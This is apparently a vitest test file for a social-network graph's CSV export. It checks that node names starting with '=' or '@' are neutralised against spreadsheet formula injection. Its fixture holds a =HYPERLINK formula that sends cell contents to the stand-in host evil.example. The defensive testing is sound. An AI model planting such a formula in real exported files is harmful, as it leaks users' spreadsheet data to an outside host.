import { parse } from 'csv-parse/sync';
import type { GraphData } from '@trellis/sna/io';
import { describe, expect, it } from 'vitest';
import { NODE_MEASURES } from './export.js';
import { edgesCsv, nodesCsv } from './export-csv.js';

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Ver")';

/** Three people, one of them isolated, named as an attacker would name themselves. */
const graph: GraphData = {
  directed: true,
  weighted: true,
  nodes: ['p1', 'p2', '@p3'],
  edges: [{ source: 'p1', target: 'p2', weight: 2 }],
  nodeAttributes: new Map([
    [
      'label',
      new Map([
        ['p1', HYPERLINK],
        ['p2', '@SUM(1)'],
        ['@p3', 'Ana Ruiz'],
      ]),
    ],
    [
      'constraint',
      new Map([
        ['p1', '-0.25'],
        ['p2', '1.125'],
      ]),
    ],
    ['brokerageRole', new Map([['p1', 'liaison']])],
  ]),
};

describe('the network graph as CSV', () => {
  it('neutralises names that are formulas and keeps the measures numbers', () => {
    const text = nodesCsv(graph, NODE_MEASURES);
    expect(text.split('\r\n')[1]).toBe(
      `p1,"'=HYPERLINK(""http://evil.example/?""&A1,""Ver"")",-0.25,liaison`,
    );
    expect(parse(text, { columns: true })).toEqual([
      { id: 'p1', label: `'${HYPERLINK}`, constraint: '-0.25', brokerageRole: 'liaison' },
      { id: 'p2', label: "'@SUM(1)", constraint: '1.125', brokerageRole: '' },
      { id: "'@p3", label: 'Ana Ruiz', constraint: '', brokerageRole: '' },
    ]);
  });

  it('writes edges with their weight and an isolated node with an empty target, ids neutralised alike', () => {
    expect(edgesCsv(graph)).toBe(`source,target,weight\r\np1,p2,2\r\n"'@p3",,\r\n`);
  });
});
